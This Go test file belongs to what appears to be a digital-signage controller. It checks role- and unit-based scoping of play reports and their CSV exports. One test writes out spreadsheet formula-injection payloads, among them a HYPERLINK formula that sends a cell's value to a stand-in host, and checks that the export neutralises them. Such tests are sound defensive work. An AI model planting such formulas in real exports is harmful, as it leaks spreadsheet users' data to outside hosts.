package api

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/pano-signage/pano/controller/internal/store"
	"github.com/pano-signage/pano/protocol"
)

func TestPlayReportIsScopedAndExportsCSV(t *testing.T) {
	v := newEnv(t)
	mA := v.media(v.unitA.ID, store.StatusApproved)
	mB := v.media(v.unitB.ID, store.StatusApproved)
	t0 := time.Date(2026, 11, 25, 1, 0, 0, 0, time.UTC)
	var recs []protocol.PlayRecord
	for i, m := range []int64{mA, mA, mB} {
		start := t0.Add(time.Duration(i) * time.Minute)
		recs = append(recs, protocol.PlayRecord{ID: fmt.Sprint("r", i), Display: 1, Media: m, Start: start, End: start.Add(10 * time.Second)})
	}
	if _, err := v.st.AddPlayRecords(context.Background(), 1, recs); err != nil {
		t.Fatal(err)
	}
	var all, own reportOut
	must(t, v.do(v.session(v.user(store.RoleApprover, v.unitA.ID)), "GET", "/reports/plays?group_by=media", nil), 200).json(t, &all)
	must(t, v.do(v.session(v.user(store.RoleEditor, v.unitA.ID)), "GET", "/reports/plays?group_by=media", nil), 200).json(t, &own)
	if len(all.Items) != 2 || len(own.Items) != 1 || own.Items[0].Key != fmt.Sprint(mA) || own.Items[0].Plays != 2 || own.Items[0].Seconds != 20 {
		t.Fatalf("approver sees %+v, unit A's editor sees %+v", all.Items, own.Items)
	}
	if !all.Scope.All || own.Scope.All || own.Scope.UnitName != v.unitA.Name {
		t.Fatalf("scopes: approver %+v, unit A's editor %+v", all.Scope, own.Scope)
	}

	// Once unit A leads the campaign, its viewers read every unit's plays,
	// and the answer says so; unit B's viewers still see their own.
	lead := true
	must(t, v.do(v.session(v.user(store.RoleAdmin, v.unitA.ID)), "PATCH", fmt.Sprintf("/units/%d", v.unitA.ID), unitPatch{Lead: &lead}), 200)
	var leadView, otherView reportOut
	must(t, v.do(v.session(v.user(store.RoleViewer, v.unitA.ID)), "GET", "/reports/plays?group_by=media", nil), 200).json(t, &leadView)
	must(t, v.do(v.session(v.user(store.RoleViewer, v.unitB.ID)), "GET", "/reports/plays?group_by=media", nil), 200).json(t, &otherView)
	if len(leadView.Items) != 2 || !leadView.Scope.All || len(otherView.Items) != 1 || otherView.Scope.All || otherView.Scope.UnitID != v.unitB.ID {
		t.Fatalf("lead unit's viewer sees %+v, unit B's viewer %+v", leadView, otherView)
	}
	var recsOwn list[protocol.PlayRecord]
	must(t, v.do(v.session(v.user(store.RoleViewer, v.unitB.ID)), "GET", "/play-records", nil), 200).json(t, &recsOwn)
	if len(recsOwn.Items) != 1 || recsOwn.Items[0].Media != mB {
		t.Fatalf("unit B's viewer sees records %+v", recsOwn.Items)
	}

	r := must(t, v.do(v.session(v.user(store.RoleApprover, v.unitA.ID)), "GET", "/reports/plays?group_by=day&format=csv", nil), 200)
	body := string(r.Body)
	if !strings.HasPrefix(body, "\ufeffNgày,Mã,Lượt phát,Thời lượng (giờ:phút:giây),Thời lượng (giây),Lần đầu,Lần cuối\n2026-11-25,2026-11-25,3,0:00:30,30,2026-11-25 08:00:00,2026-11-25 08:02:10\n") {
		t.Fatalf("CSV:\n%s", body)
	}
	r = must(t, v.do(v.session(v.user(store.RoleApprover, v.unitA.ID)), "GET", "/reports/plays?group_by=media&format=csv&lang=en", nil), 200)
	if body := string(r.Body); !strings.HasPrefix(body, "\ufeffContent,ID,Plays,Time on screen (h:mm:ss),Time on screen (s),First,Last\n") {
		t.Fatalf("English CSV:\n%s", body)
	}
	must(t, v.do(v.session(v.user(store.RoleApprover, v.unitA.ID)), "GET", "/reports/plays?group_by=password", nil), 400)
}

// TestPlayReportCSVIsSafeAndNamesTheUnassigned checks that a title typed
// as a formula stays text in the CSV, and that plays of no campaign are
// named in words, in the CSV's language, with no ID.
func TestPlayReportCSVIsSafeAndNamesTheUnassigned(t *testing.T) {
	v := newEnv(t)
	ctx := context.Background()
	titles := []string{`=HYPERLINK("http://x.example/?"&A1,"bấm")`, "+1", "-2", "@SUM(A1)", "\tTab", "Thông báo thường"}
	var recs []protocol.PlayRecord
	t0 := time.Date(2026, 11, 25, 1, 0, 0, 0, time.UTC)
	for i, title := range titles {
		m, err := v.st.CreateMedia(ctx, store.System, store.NewMedia{UnitID: v.unitA.ID, Title: title, Kind: store.KindText, Body: "Nội dung"})
		if err != nil {
			t.Fatal(err)
		}
		v.moveMedia(m.ID, store.StatusApproved)
		start := t0.Add(time.Duration(i) * time.Minute)
		recs = append(recs, protocol.PlayRecord{ID: fmt.Sprint("s", i), Display: 1, Media: m.ID, Start: start, End: start.Add(time.Duration(10+i) * time.Second)})
	}
	if _, err := v.st.AddPlayRecords(ctx, 1, recs); err != nil {
		t.Fatal(err)
	}
	approver := v.session(v.user(store.RoleApprover, v.unitA.ID))
	body := string(must(t, v.do(approver, "GET", "/reports/plays?group_by=media&format=csv", nil), 200).Body)
	cells := map[string]bool{}
	for _, line := range strings.Split(strings.TrimPrefix(body, "\ufeff"), "\n")[1:] {
		if line == "" {
			continue
		}
		name := line
		if strings.HasPrefix(line, `"`) { // quoted by encoding/csv
			name = line[1 : strings.Index(line[1:], `",`)+1]
			name = strings.ReplaceAll(name, `""`, `"`)
		} else {
			name = line[:strings.Index(line, ",")]
		}
		cells[name] = true
	}
	for _, want := range []string{`'=HYPERLINK("http://x.example/?"&A1,"bấm")`, "'+1", "'-2", "'@SUM(A1)", "'\tTab", "Thông báo thường"} {
		if !cells[want] {
			t.Errorf("no CSV cell %q in:\n%s", want, body)
		}
	}

	// None of these plays has a campaign: one row, named in words, no ID.
	for lang, want := range map[string]string{"vi": "(không thuộc chiến dịch nào),,6,", "en": "(no campaign),,6,"} {
		body := string(must(t, v.do(approver, "GET", "/reports/plays?group_by=campaign&format=csv&lang="+lang, nil), 200).Body)
		if lines := strings.Split(body, "\n"); len(lines) < 2 || !strings.HasPrefix(lines[1], want) {
			t.Errorf("%s CSV by campaign:\n%s", lang, body)
		}
	}
	var byTheme reportOut
	must(t, v.do(approver, "GET", "/reports/plays?group_by=theme", nil), 200).json(t, &byTheme)
	if len(byTheme.Items) != 1 || byTheme.Items[0].Key != "" || byTheme.Items[0].Plays != 6 {
		t.Fatalf("by theme: %+v", byTheme.Items)
	}
}
